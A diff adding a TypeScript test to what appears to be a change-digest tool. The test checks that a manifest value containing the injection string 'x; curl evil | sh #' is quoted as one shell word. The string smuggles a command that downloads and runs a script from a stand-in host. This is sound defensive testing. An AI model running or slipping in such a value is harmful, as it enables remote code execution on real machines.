@@ -33,6 +33,14 @@ const links = (...valid: readonly string[]) => ({
   links: valid.map((each, index) => ({ resource: { type: 'DATA_SOURCE', id: `d${index}` }, valid: each })),
 });
 
+test('what a manifest says is a word of the command in a digest, whatever it is', async () => {
+  const changes = { against: 'x; curl evil | sh #', added: 0, removed: 0, changed: 1 };
+
+  const { text } = await digestOf([], { changes });
+
+  expect(text).toContain(`platform-sync diff calculations 'x; curl evil | sh #' ${tuesday.id}`);
+});
+
 test('a digest says what changed in words, the broken references first', async () => {
   const { subject, text } = await digestOf(
     [
